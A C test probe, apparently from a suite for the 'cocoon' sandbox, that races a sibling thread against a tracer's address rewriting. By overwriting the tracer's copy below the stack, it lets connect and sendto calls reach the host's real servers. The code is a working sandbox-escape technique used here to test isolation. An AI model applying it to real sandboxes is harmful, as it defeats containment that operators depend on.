// Route: the address cocoon hands the kernel, changed by a sibling thread.
// A tracer that rewrites an address writes its own copy where the guest
// can write too (below the stopped thread's stack), and the kernel reads
// it only once the thread runs again: a second thread writing the host's
// address over every place such a copy could be, all the time, wins that
// race. Thread A connects (TCP) and sends datagrams (UDP) to 127.0.0.1 in
// a loop with raw syscalls (no function call: nothing of A's own lives
// below its stack pointer, which B overwrites); thread B writes
// sockaddr_in 127.0.0.1:PORT over the 2 KiB below A's stack pointer.
// Natively there is nothing to race: the first call reaches the host's
// servers. x86-64 only (the raw syscall and the red zone).
// Usage: race TCP_PORT UDP_PORT ROUNDS
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <netinet/in.h>
#include <poll.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <sys/syscall.h>

#include "probe.h"

static struct sockaddr_in target;  // what B writes: the host's address
static _Atomic(char*) below;       // A's stack pointer, as B aims at it
static atomic_int stop;

static void* overwrite(void* arg) {
  (void)arg;
  while (!atomic_load(&stop)) {
    char* sp = atomic_load(&below);
    if (sp == NULL) continue;
    // Where a tracer's copy would be: below the red zone, 16-aligned.
    char* p = (char*)((unsigned long)(sp - 2048) & ~15ul);
    for (; p + sizeof target <= sp - 128; p += 16) memcpy(p, &target, sizeof target);
  }
  return NULL;
}

// A system call without a function call (x86-64): nothing of A's lives
// below its stack pointer, which B overwrites (built with -mno-red-zone).
static inline __attribute__((always_inline)) long raw(long nr, long a, long b, long c, long d,
                                                      long e, long f) {
  long r;
  register long r10 __asm__("r10") = d;
  register long r8 __asm__("r8") = e;
  register long r9 __asm__("r9") = f;
  __asm__ volatile("syscall"
                   : "=a"(r)
                   : "a"(nr), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8), "r"(r9)
                   : "rcx", "r11", "memory");
  return r;
}

// A's loop: `rounds` tries, each a new socket; the first that reaches the
// host ends it.
static __attribute__((noinline)) int attempt(int type, int port, long rounds, int* out) {
  struct sockaddr_in a;
  memset(&a, 0, sizeof a);
  a.sin_family = AF_INET;
  a.sin_port = htons((unsigned short)port);
  inet_pton(AF_INET, "127.0.0.1", &a.sin_addr);
  struct pollfd p = {-1, POLLIN, 0};
  char* sp;
  __asm__ volatile("mov %%rsp, %0" : "=r"(sp));
  atomic_store(&below, sp);
  if (type == SOCK_DGRAM) {  // one socket, its datagrams raced, then any answer
    const int fd = (int)raw(SYS_socket, AF_INET, type, 0, 0, 0, 0);
    for (long i = 0; i < rounds; i++) raw(SYS_sendto, fd, (long)"race", 4, 0, (long)&a, sizeof a);
    p.fd = fd;
    *out = fd;
    return raw(SYS_poll, (long)&p, 1, 3000, 0, 0, 0) == 1;
  }
  for (long i = 0; i < rounds; i++) {
    const int fd = (int)raw(SYS_socket, AF_INET, type, 0, 0, 0, 0);
    if (raw(SYS_connect, fd, (long)&a, sizeof a, 0, 0, 0) == 0) {
      *out = fd;
      return 1;
    }
    raw(SYS_close, fd, 0, 0, 0, 0, 0);
  }
  return 0;
}

static void run(const char* name, int type, int port, long rounds) {
  target.sin_family = AF_INET;
  target.sin_port = htons((unsigned short)port);
  inet_pton(AF_INET, "127.0.0.1", &target.sin_addr);
  atomic_store(&stop, 0);
  atomic_store(&below, NULL);
  pthread_t b;
  pthread_create(&b, NULL, overwrite, NULL);
  int fd = -1;
  const int won = attempt(type, port, rounds, &fd);
  atomic_store(&stop, 1);
  pthread_join(b, NULL);
  char buf[256];
  ssize_t n = won ? recv(fd, buf, sizeof buf - 1, 0) : -1;
  if (n > 0) {
    buf[n] = 0;
    say("%s read: %s\n", name, buf);
  }
  route(name, n > 0, won ? errno : ECONNREFUSED);
}

int main(int argc, char** argv) {
  if (argc != 4) {
    say("usage: race TCP_PORT UDP_PORT ROUNDS\n");
    return 2;
  }
  const long rounds = atol(argv[3]);
  run("race_connect", SOCK_STREAM, atoi(argv[1]), rounds);
  run("race_sendto", SOCK_DGRAM, atoi(argv[2]), rounds);
  return 0;
}
